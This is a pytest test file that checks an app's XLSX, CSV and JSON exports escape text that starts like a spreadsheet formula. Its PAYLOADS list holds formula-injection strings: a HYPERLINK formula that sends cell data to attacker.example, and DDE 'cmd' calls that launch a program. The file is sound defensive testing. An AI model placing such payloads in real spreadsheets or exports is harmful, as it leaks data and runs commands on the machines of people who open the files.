"""Exports never run formulas: imported text that starts like a formula is written as text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlmodel import select

from app.core.cells import csv_text, from_csv_text, runs_as_formula
from app.core.models import Contact, Employer, Registration
from app.services.events import event_report
from app.services.importing import load_table
from app.services.importing.exporting import export_csv, export_json, export_xlsx
from tests.events import fixture

#: The seven kinds of formula payload: =, +, -, @, tab, carriage return, and a DDE call.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(store):
    """One employer per payload (the payload as its legal name and contact), plus sensible values."""
    with store.transaction() as session:
        for n, payload in enumerate(PAYLOADS):
            employer = Employer(legal_name=payload, city="Chicago", notes=f"payload {n}")
            session.add(employer)
            session.flush()
            session.add(
                Contact(
                    employer_id=employer.id, name=payload, phone="+1 312 555 0101", is_primary=True
                )
            )
        session.add(Employer(legal_name="Minus Five Inc", notes="-5", zip_code="60608"))
    return store


def test_xlsx_export_has_no_formula_cells_and_keeps_the_text(hostile, tmp_path: Path) -> None:
    """Before: the =HYPERLINK and =cmd| payloads were live formulas."""
    out = tmp_path / "e.xlsx"
    export_xlsx(hostile, out)
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {c.value for c in book["Employers"]["A"]}
    assert {p.replace("\r", "\n") for p in PAYLOADS} <= names  # XML reads a lone CR as LF
    flagged = [c for c in cells if isinstance(c.value, str) and runs_as_formula(c.value)]
    assert flagged and all(c.quotePrefix and c.data_type == "s" for c in flagged)
    notes = {c.value for c in book["Employers"][1] if c.value}
    assert "Notes" in notes


def test_csv_export_prefixes_every_payload_and_leaves_numbers(hostile, tmp_path: Path) -> None:
    """Before: all seven were written as they were."""
    out = tmp_path / "e.csv"
    export_csv(hostile, out)
    data = out.read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    company, person, phone, notes = (
        header.index(h) for h in ("Company", "Contact person", "Contact phone", "Notes")
    )
    written = {r[company] for r in body}
    assert {"'" + p for p in PAYLOADS} <= written
    for row in body:
        for cell in row:
            assert not runs_as_formula(cell), cell
    by_name = {r[company]: r for r in body}
    assert by_name["Minus Five Inc"][notes] == "-5"  # a number stays a number
    assert by_name["'" + PAYLOADS[0]][phone] == "'+1 312 555 0101"
    assert by_name["'" + PAYLOADS[1]][person] == "'" + PAYLOADS[1]
    for payload in PAYLOADS:
        raw = csv_text(payload).encode()
        assert raw.startswith(b"'") and raw[1:2] in (b"=", b"+", b"-", b"@", b"\t", b"\r")


def test_csv_export_reads_back_to_the_original_text(hostile, tmp_path: Path) -> None:
    out = tmp_path / "e.csv"
    export_csv(hostile, out)
    table = load_table(out)
    company = table.headers.index("Company")
    assert {r[company] for r in table.rows} >= {p.strip() for p in PAYLOADS}


def test_json_export_stays_exact(hostile, tmp_path: Path) -> None:
    out = tmp_path / "e.json"
    export_json(hostile, out)
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert {e["legal_name"] for e in doc["employers"]} >= set(PAYLOADS)


def test_check_in_workbook_writes_names_as_text(store, tmp_path: Path) -> None:
    known = fixture.build(store)
    with store.transaction() as session:
        registration = session.exec(
            select(Registration).where(Registration.event_id == known.event_id)
        ).first()
        registration.name = PAYLOADS[1]
        session.add(registration)
    out = tmp_path / "checkins.xlsx"
    event_report.export_checkins_xlsx(store, known.event_id, out)
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert PAYLOADS[1] in {c.value for c in cells}


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("-5", False),
        ("+12.50", False),
        ("-1,200", False),
        ("Acme", False),
        ("1-2", False),
        ("+1 312 555 0101", True),
        ("-", True),
        ("  =1+1", True),
        ("\uff1d1+1", True),
    ],
)
def test_what_counts_as_a_formula(text: str, formula: bool) -> None:
    assert runs_as_formula(text) is formula


@given(st.text())
def test_csv_text_never_starts_a_formula_and_reads_back(text: str) -> None:
    written = csv_text(text)
    assert not runs_as_formula(written)
    assert from_csv_text(written) == text


def test_a_stored_resume_is_exported_as_base64_and_restored(store, tmp_path: Path) -> None:
    """Before: the JSON export (the backup) failed with 'bytes is not JSON serializable'."""
    from app.core.models import Participant, Resume
    from app.services.importing.restore import apply_restore, plan_restore
    from app.store.engine import open_store

    with store.transaction() as session:
        person = Participant(first_name="Ana", last_name="Test", phone="3125550101")
        session.add(person)
        session.flush()
        session.add(
            Resume(
                participant_id=person.id,
                file_name="cv.pdf",
                media_type="application/pdf",
                size=5,
                sha256="0" * 64,
                content=b"%PDF\x00",
            )
        )
    out = tmp_path / "backup.json"
    export_json(store, out)
    assert json.loads(out.read_text())["resume"][0]["content"] == "JVBERgA="
    export_xlsx(store, tmp_path / "e.xlsx")
    assert "(file of 5 bytes)" in {
        c.value for row in load_workbook(tmp_path / "e.xlsx")["Resume"].iter_rows() for c in row
    }
    other = open_store(tmp_path / "other.sqlite")
    try:
        plan = plan_restore(other, out)
        assert plan.rejected == []
        apply_restore(other, plan)
        with other.session() as session:
            assert session.exec(select(Resume)).one().content == b"%PDF\x00"
    finally:
        other.close()
